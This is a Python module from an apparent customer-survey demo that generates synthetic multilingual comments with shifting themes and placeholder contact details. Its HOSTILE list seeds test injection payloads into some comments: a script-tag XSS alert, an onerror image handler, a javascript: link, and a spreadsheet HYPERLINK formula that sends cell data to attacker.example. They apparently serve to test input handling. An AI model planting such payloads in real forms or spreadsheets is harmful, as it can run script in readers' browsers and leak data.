"""The demo's comments told again, so that they read as people: in their languages, with themes that move.

Each survey has a stream of chance of its own for this, so that answers and scores stay as they were drawn.
"""

from __future__ import annotations

import zlib
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

import numpy as np

from cx.demo import company, languages
from cx.demo.answers import Answers, Column, Numbers
from cx.demo.comments import ByClass, Sentences
from cx.domain.tally import PASSIVE_FROM, PROMOTER_FROM

DETRACTORS, PASSIVES, PROMOTERS = 0, 1, 2
LAST = len(company.QUARTERS) - 1

SPEAKING: Mapping[str, tuple[float, float, float]] = {"EMEA": (0.13, 0.15, 0.05), "Latin America": (0.0, 0.0, 0.45)}
"""Share of a region's comments in French, German and Spanish; the rest are in English."""


@dataclass(frozen=True, slots=True)
class Theme:
    """Something that customers speak of, more or less often as time goes by.

    planted: what moves. journeys, regions: where; none named is everywhere. classes: who says it. share: of their
    English comments, 0 to 1, by quarter. sentences: what is said.
    """

    key: str
    planted: str
    share: tuple[float, ...]
    classes: tuple[int, ...]
    sentences: Sentences
    journeys: tuple[str, ...] = ()
    regions: tuple[str, ...] = ()


def _quarterly(before: float, *last: float) -> tuple[float, ...]:
    return (*(before,) * (LAST + 1 - len(last)), *last)


THEMES: tuple[Theme, ...] = (
    Theme(
        "onboarding_delays",
        "Delays in the first 90 days: seldom named until 2025, by every second unhappy newcomer of EMEA in 2026Q3",
        _quarterly(0.06, 0.08, 0.14, 0.26, 0.50),
        (DETRACTORS, PASSIVES),
        (
            "Our go-live was postponed three times.",
            "The delays in onboarding cost us the start of our season.",
            "We waited five weeks for our first login.",
            "Nobody could say when onboarding would be finished.",
            "Each delay was explained by another team.",
            "Our start slipped from March to June.",
        ),
        (company.FIRST_90_DAYS,),
        ("EMEA",),
    ),
    Theme(
        "support_praise",
        "Praise for the engineer of their own: none before the project of January 2026, one promoter in three after it",
        _quarterly(0.0, 0.12, 0.28, 0.34),
        (PROMOTERS,),
        (
            "Please thank our named engineer.",
            "Having one engineer who knows us is worth more than any discount.",
            "Our named engineer calls back within the hour.",
            "A named engineer was the best decision you made.",
        ),
        (company.SUPPORT_JOURNEY,),
    ),
    Theme(
        "slow_month_end",
        "Slowness at month end: named by one unhappy user in four until a release of 2025 cures it",
        _quarterly(0.26, 0.20, 0.14, 0.10, 0.07, 0.05, 0.05),
        (DETRACTORS, PASSIVES),
        (
            "At month end every report is slow.",
            "It is slow just when everybody needs it.",
            "Loading a dashboard takes a coffee, or two.",
            "Too slow in the last week of the month.",
        ),
        ("Using the product", "Upgrades"),
    ),
    Theme(
        "price",
        "The price: named as often as ever",
        _quarterly(0.13),
        (DETRACTORS, PASSIVES),
        (
            "And the price goes up every year.",
            "For this price we expect more.",
            "It is getting too expensive for what we use.",
            "Northwind offered us a better price.",
        ),
        ("Renewal", "Billing", "Buying"),
    ),
    Theme(
        "answer_bot",
        "The answer bot: a phrase that nobody used before it came in May 2026, and that no theme covers yet",
        _quarterly(0.0, 0.07, 0.16),
        (DETRACTORS, PASSIVES),
        (
            "The answer bot sends us in circles.",
            "The new answer bot invents settings that do not exist.",
            "I would rather have a person than the answer bot.",
            "The answer bot closes our case before anybody has read it.",
        ),
        (company.SUPPORT_JOURNEY, "Using the product"),
    ),
)

DETAILS: ByClass = (
    (
        "It cost my team four days.",
        "We had to explain that to our own customers.",
        "Our finance team worked through the weekend because of it.",
        "I asked twice for somebody to own this, and nobody does.",
        "Two of my people now do nothing else.",
        "We were told that it is on the roadmap. Which one?",
        "Our warehouse in Leeds still works with spreadsheets.",
        "The people are kind. The process is not.",
    ),
    (
        "A checklist at the beginning would have helped.",
        "With a little more care this would be a nine.",
        "My colleagues in Lyon are happier than we are.",
        "The monthly review with your team helps.",
        "We would like to see what is planned, and when.",
        "It depends on whom you reach.",
    ),
    (
        "Our auditors noticed the difference, too.",
        "The warehouse team asked to keep it, which never happens.",
        "Two of our sister companies now look at it.",
        "It paid for itself before the summer.",
        "Somebody over there really listens.",
        "We showed it to our board last month.",
        "Even our most sceptical plant manager uses it.",
    ),
)
WITH_DETAIL = 0.34
"""Share of English comments that add a detail."""

PERSONAL: tuple[Sentences, ...] = (
    (
        "Please call me on +44 20 7946 0{n:03d}.",
        "You can reach me at {first}.{last}@example.com.",
        "Write to {first} dot {last} at example dot com if you want the details.",
        "My mobile is 07700 900{n:03d}, ask for {First}.",
        "I even gave the card 4111 1111 1111 1111 to your colleague on the phone!",
    ),
    ("Mon numéro : 01 99 00 {m:02d} {m:02d}.", "Écrivez-moi : {first}.{last} arobase example point com."),
    ("Rufen Sie mich an: +49 30 23125 {n:03d}.", "Schreiben Sie an {first}.{last}@example.com."),
    ("Mi correo es {first}.{last}@example.com.", "Llámenme al +34 911 55 {n:03d}."),
)
"""In English, French, German and Spanish: numbers kept free for fiction, and an address that belongs to nobody."""
_FIRST = ("anna", "marc", "lena", "tom", "ines", "paul", "sara", "jonas")
_LAST = ("miller", "durand", "keller", "ortega", "smith", "rossi")
WITH_PERSONAL_DATA = 0.006
"""Share of comments that leave a way to reach somebody."""

HOSTILE: Sentences = (
    '<script>alert("comment")</script> Nice survey. Does anybody read this?',
    '=HYPERLINK("http://attacker.example/?x="&A1,"click here")',
    "![picture](http://attacker.example/pixel.png) **Great** <img src=x onerror=alert(1)> [link](javascript:alert(1))",
)
"""What somebody tries on every form of the world; each once, in the last quarter."""


def retold(answers: Answers, seed: int) -> Answers:
    """The same answers with their comments told again; a survey without comments stays as it is."""
    columns = answers.columns
    if "comment" not in columns:
        return answers
    rng = np.random.default_rng([seed, zlib.crc32(f"voices of {answers.survey_id}".encode())])
    comments = columns["comment"].copy()
    written = np.flatnonzero(comments != "")
    places = _quarters(columns["responded_at"][written])
    chance = rng.random((len(written), 8 + len(THEMES)))
    partners = answers.survey_id == company.PARTNERS
    for i, place, drawn in zip(written.tolist(), places.tolist(), chance, strict=True):
        told: dict[str, str] = {
            name: str(columns[name][i]) for name in ("region", "journey", "product") if name in columns
        }
        kind = _class(int(columns["score"][i]))
        spoken = _spoken(told, drawn)
        if spoken:
            text = _foreign(told, comments[i], kind, drawn, spoken, partners=partners)
        else:
            text = _english(told, comments[i], kind, place, drawn, partners=partners)
        comments[i] = _with_personal_data(text, drawn, PERSONAL[spoken])
    if answers.survey_id == company.RELATIONSHIP:
        latest = written[places == LAST]
        comments[latest[[len(latest) // 7, len(latest) // 3, len(latest) // 2]]] = HOSTILE
    return Answers(answers.survey_id, {**columns, "comment": comments})


def _spoken(told: Mapping[str, str], drawn: Numbers) -> int:
    """English, French, German or Spanish: 0 to 3."""
    shares = np.cumsum(SPEAKING.get(told["region"], (0.0, 0.0, 0.0)))
    return (int(np.searchsorted(shares, drawn[0], side="right")) + 1) % (len(shares) + 1)


def _foreign(told: Mapping[str, str], comment: str, kind: int, drawn: Numbers, spoken: int, *, partners: bool) -> str:
    """What a comment says, in another language."""
    if partners:
        return _pick(languages.PARTNERS[spoken - 1][kind], drawn[1])
    book = (languages.FRENCH, languages.GERMAN, languages.SPANISH)[spoken - 1]
    news = "portal" if "portal" in comment else "engineer" if "engineer" in comment else told["journey"]
    place = book.get(news) or book[""]
    return _pick(place[kind], drawn[1]).format(product=told["product"])


def _english(told: Mapping[str, str], comment: str, kind: int, place: int, drawn: Numbers, *, partners: bool) -> str:
    parts = [comment]
    if not partners:
        for position, theme in enumerate(THEMES):
            if drawn[8 + position] < theme.share[place] and _concerns(theme, told, kind):
                parts.append(_pick(theme.sentences, drawn[2]))
    if drawn[3] < WITH_DETAIL:
        parts.append(_pick(DETAILS[kind], drawn[4]))
    return " ".join(parts)


def _concerns(theme: Theme, told: Mapping[str, str], kind: int) -> bool:
    return (
        kind in theme.classes
        and (not theme.journeys or told["journey"] in theme.journeys)
        and (not theme.regions or told["region"] in theme.regions)
    )


def _with_personal_data(text: str, drawn: Numbers, ways: Sentences) -> str:
    if drawn[5] >= WITH_PERSONAL_DATA:
        return text
    first, last = _pick(_FIRST, drawn[6]), _pick(_LAST, drawn[7])
    number = int(drawn[6] * 900) + 100
    return (
        f"{text} {_pick(ways, drawn[7]).format(first=first, last=last, First=first.title(), n=number, m=number % 97)}"
    )


def _class(score: int) -> int:
    return PROMOTERS if score >= PROMOTER_FROM else PASSIVES if score >= PASSIVE_FROM else DETRACTORS


def _quarters(moments: Column) -> Column:
    """Place of each moment's quarter in the demo's time."""
    months = moments.astype("datetime64[M]").astype(np.int64)
    first = np.datetime64(company.QUARTERS[0].span.first, "M").astype(np.int64)
    places: Column = (months - first) // 3
    return places


def _pick(sentences: Sequence[str], chance: float) -> str:
    return sentences[min(int(chance * len(sentences)), len(sentences) - 1)]
